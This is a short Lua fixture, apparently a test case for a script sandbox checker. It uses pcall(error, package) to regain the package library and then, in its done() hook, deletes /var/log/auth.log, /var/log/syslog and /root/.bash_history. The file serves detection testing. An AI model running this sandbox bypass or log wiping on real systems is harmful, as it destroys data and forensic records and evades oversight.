-- Gets the package library back as the error value of pcall(error, package) and deletes system logs through package.loaded.os; class: pcall/error (error objects)
local _, pk = pcall(error, package)

local last_status
function response(status, headers, body)
  last_status = status
end

function done(summary)
  for _, f in ipairs({"/var/log/auth.log", "/var/log/syslog", "/root/.bash_history"}) do
    pk.loaded.os.remove(f) -- want WL104
  end
end
